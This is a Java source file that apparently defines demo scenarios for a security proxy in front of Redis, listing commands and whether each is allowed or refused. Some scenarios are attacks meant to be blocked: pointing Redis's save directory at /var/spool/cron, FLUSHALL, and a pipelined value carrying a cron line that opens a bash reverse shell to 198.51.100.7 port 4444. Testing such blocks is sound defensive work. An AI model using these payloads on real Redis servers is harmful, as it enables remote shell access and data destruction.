package io.bulwark.proxy.demo;

import java.util.List;

/**
 * One thing that the demo tries with Redis: commands that are sent at once, of which the reply to one is looked at.
 *
 * @param looked which of the commands the expectation is about
 * @param expected how its reply must begin
 * @param expectedRule how the rule in the refusal must begin; empty where the command should pass
 */
public record RedisScene(String title, List<List<String>> commands, int looked, String expected, String expectedRule) {
    public RedisScene {
        commands = List.copyOf(commands);
    }

    /** Every scene, in the order of the table. They build on each other. */
    public static List<RedisScene> all() {
        return List.of(
                passes("Redis: a session is stored", "+OK", List.of("SET", "session:42", "{\"cart\":3}")),
                passes("Redis: ... and read", "$10", List.of("GET", "session:42")),
                refused(
                        "Redis: settings that write files",
                        "redis",
                        List.of("CONFIG", "SET", "dir", "/var/spool/cron")),
                refused("Redis: all keys are deleted", "redis-admin", List.of("FLUSHALL")),
                refused("Redis: a command that no rule covers", "allowlist", List.of("DEL", "session:42")),
                refused("Redis: a key that no rule covers", "allowlist", List.of("GET", "payments:7")),
                refused(
                        "Redis: a card number as a value",
                        "dlp",
                        List.of("HSET", "session:42", "card", "4111111111111111")),
                amongOthers(),
                transaction());
    }

    private static RedisScene passes(String title, String expected, List<String> command) {
        return new RedisScene(title, List.of(command), 0, expected, "");
    }

    private static RedisScene refused(String title, String rule, List<String> command) {
        return new RedisScene(title, List.of(command), 0, "-NOPERM", rule);
    }

    private static RedisScene amongOthers() {
        var get = List.of("GET", "session:42");
        var cron = List.of("SET", "session:1", "\n\n*/1 * * * * bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n\n");
        return new RedisScene(
                "Redis: a crontab in a pipeline", List.of(get, cron, get, get), 1, "-NOPERM", "redis-cron-write");
    }

    private static RedisScene transaction() {
        return new RedisScene(
                "Redis: a command within MULTI and EXEC",
                List.of(
                        List.of("MULTI"),
                        List.of("SET", "session:42", "x"),
                        List.of("DEL", "session:42"),
                        List.of("EXEC")),
                2,
                "-NOPERM",
                "allowlist");
    }
}
